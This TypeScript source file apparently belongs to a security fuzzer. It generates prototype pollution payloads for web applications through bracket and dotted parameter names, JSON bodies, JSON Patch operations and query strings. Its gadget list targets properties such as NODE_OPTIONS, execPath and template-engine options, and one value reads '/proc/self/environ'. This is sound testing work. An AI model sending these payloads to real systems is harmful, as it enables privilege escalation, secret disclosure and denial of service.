import type { AttackPosition, Generator } from '../../attack.js';
import { type Rules, writeByGrammar, writeDistinct } from '../../grammar.js';
import { DEEP_BODY_GENERATORS } from './deep-bodies.js';
import { MERGE_NOTATION_GENERATORS } from './merge-notations.js';
import { MIXED_PATH_GENERATORS } from './mixed-paths.js';
import { PATH_AGAIN_GENERATORS } from './paths-again.js';

const POSITIONS = {
  bracket: { context: 'bracket-name', location: 'qs_variables' },
  dot: { context: 'dot-name', location: 'qs_variables' },
  body: { context: 'body', location: 'text' },
  key: { context: 'path-value' },
  patch: { context: 'patch', location: 'text' },
  query: { context: 'query-string' },
} as const satisfies Record<string, AttackPosition>;

/** Properties that turn pollution into something: options, flags, what template engines and processes read. */
const COMMON: Rules = {
  gadget: [
    'isAdmin',
    'admin',
    'role',
    'polluted',
    'shell',
    'NODE_OPTIONS',
    'env',
    'argv0',
    'execPath',
    'outputFunctionName',
    'escapeFunction',
    'client',
    'compileDebug',
    'status',
    'baseURL',
    'proxy',
    'headers',
    'allowDots',
    'contentType',
    'sourceURL',
    'main',
    'type',
    'block',
    'line',
    'input',
    'html',
    'src',
    'innerHTML',
    'x',
  ],
  builtin: ['toString', 'valueOf', 'hasOwnProperty', 'toJSON', 'then', 'length', 'constructor', '__lookupGetter__'],
  word: (random) => Array.from({ length: 4 }, () => random.pick([...'abcdefghijklmnop'])).join(''),
  digit: (random) => String(random.below(9)),
  outer: ['user', 'a', 'data', 'settings', 'profile', 'filter', 'options', 'config', 'b', 'meta'],
  proto: ['__proto__', '__proto__', 'constructor{join}prototype'],
  value: [
    'true',
    '1',
    '"x"',
    '"admin"',
    '{"a":1}',
    '["x"]',
    'null',
    '"--require /proc/self/environ"',
    '"x;process.exit()//"',
    '{"toString":"x"}',
  ],
};

function generator(name: string, grammars: Partial<Readonly<Record<keyof typeof POSITIONS, Rules>>>): Generator {
  const kinds = Object.keys(grammars) as (keyof typeof POSITIONS)[];
  return {
    family: 'prototype',
    name,
    generate: (random, count) =>
      writeDistinct(
        count,
        () => {
          const kind = random.pick(kinds);
          const text = writeByGrammar(random, { ...COMMON, ...grammars[kind] });
          return { family: 'prototype' as const, text, position: POSITIONS[kind], origin: name, mutations: [] };
        },
        ({ text, position }) => `${position.context} ${text}`,
      ),
  };
}

/** Pollution of prototypes by what carries the path. */
export const PROTOTYPE_GENERATORS = [
  generator('bracket-names', {
    bracket: {
      start: [
        '{first}[{gadget}]',
        '{outer}{inner}[{gadget}]',
        '{outer}[{word}]{inner}[{gadget}]',
        '{first}[{gadget}][]',
        '{first}[{gadget}][{digit}]',
        '{first}[{gadget}][{word}]',
        '{outer}[{digit}]{inner}[{gadget}]',
      ],
      first: ['__proto__', '__proto__', 'constructor[prototype]'],
      inner: ['[__proto__]', '[__proto__]', '[constructor][prototype]'],
    },
  }),
  generator('dotted-names', {
    dot: {
      start: [
        '{proto}.{gadget}',
        '{outer}.{proto}.{gadget}',
        '{outer}.{word}.{proto}.{gadget}',
        '{outer}.{digit}.{proto}.{gadget}',
        '{proto}.{gadget}.{word}',
      ],
      join: ['.'],
    },
  }),
  generator('mixed-names', {
    dot: {
      start: [
        '{outer}[{digit}].{proto}.{gadget}',
        '{proto}[{gadget}]',
        '{outer}.{proto}[{gadget}]',
        '{outer}["__proto__"].{gadget}',
        "{outer}['__proto__']['{gadget}']",
        '["__proto__"]["{gadget}"]',
        '{outer}["constructor"]["prototype"]["{gadget}"]',
        '{outer}.constructor["prototype"].{gadget}',
      ],
      join: ['.'],
    },
  }),
  generator('json-own-key', {
    body: {
      start: [
        '{"__proto__":{"{gadget}":{value}}}',
        '{"{outer}":"{word}","__proto__":{"{gadget}":{value}}}',
        '{"__proto__":{"{gadget}":{value},"{gadget}":{value}}}',
        '{ "__proto__" : { "{gadget}" : {value} } }',
        '{"__proto__":{"{gadget}":{"{word}":{value}}},"{outer}":1}',
      ],
    },
  }),
  generator('json-constructor', {
    body: {
      start: [
        '{"constructor":{"prototype":{"{gadget}":{value}}}}',
        '{"{outer}":{"constructor":{"prototype":{"{gadget}":{value}}}}}',
        '{"{outer}":1,"constructor":{"name":"{word}","prototype":{"{gadget}":{value}}}}',
        '{"constructor":{"prototype":{"{gadget}":{value},"{word}":1}}}',
      ],
    },
  }),
  generator('json-nested', {
    body: {
      start: [
        '{"{outer}":{"__proto__":{"{gadget}":{value}}}}',
        '{"{outer}":{"{outer}":{"__proto__":{"{gadget}":{value}}}}}',
        '{"{outer}":[{"__proto__":{"{gadget}":{value}}}]}',
        '{"{outer}":{"{word}":1,"__proto__":{"{gadget}":{value}}},"x":[1,2]}',
      ],
    },
  }),
  generator('builtins', {
    body: {
      start: [
        '{"__proto__":{"{builtin}":{value}}}',
        '{"{outer}":{"__proto__":{"{builtin}":{value}}}}',
        '{"constructor":{"prototype":{"{builtin}":{value}}}}',
      ],
    },
    bracket: { start: ['__proto__[{builtin}]', 'constructor[prototype][{builtin}]'] },
  }),
  generator('patch-operations', {
    patch: {
      start: [
        '[{"op":"add","path":"/__proto__/{gadget}","value":{value}}]',
        '[{"op":"replace","path":"/constructor/prototype/{gadget}","value":{value}}]',
        '[{"op":"add","path":"/{outer}/__proto__/{gadget}","value":{value}}]',
        '[{"op":"test","path":"/{word}","value":1},{"op":"add","path":"/__proto__/{gadget}","value":{value}}]',
        '[{"op":"copy","from":"/{outer}","path":"/__proto__/{gadget}"}]',
        '[{"op":"add","path":"/{outer}/constructor/prototype/{gadget}","value":{value}}]',
      ],
    },
  }),
  generator('path-values', {
    key: {
      start: [
        '__proto__.{gadget}',
        'constructor.prototype.{gadget}',
        '{outer}.__proto__.{gadget}',
        '__proto__[{gadget}]',
        '/__proto__/{gadget}',
        '{outer}.constructor.prototype.{gadget}',
        '["__proto__","{gadget}"]',
        '__proto__',
        '{outer}[0].__proto__.{gadget}',
        '/constructor/prototype/{gadget}',
      ],
    },
  }),
  generator('query-strings', {
    query: {
      start: [
        '__proto__[{gadget}]={word}',
        '{outer}={word}&__proto__[{gadget}]={word}',
        '?__proto__.{gadget}={word}',
        '#__proto__[{gadget}]={word}',
        'constructor[prototype][{gadget}]={word}',
        '{outer}={digit}&constructor.prototype.{gadget}={word}',
        '?{outer}[__proto__][{gadget}]={word}',
        '__proto__[{gadget}][]={word}&{outer}=1',
      ],
    },
  }),
  ...MIXED_PATH_GENERATORS,
  ...DEEP_BODY_GENERATORS,
  ...PATH_AGAIN_GENERATORS,
  ...MERGE_NOTATION_GENERATORS,
];
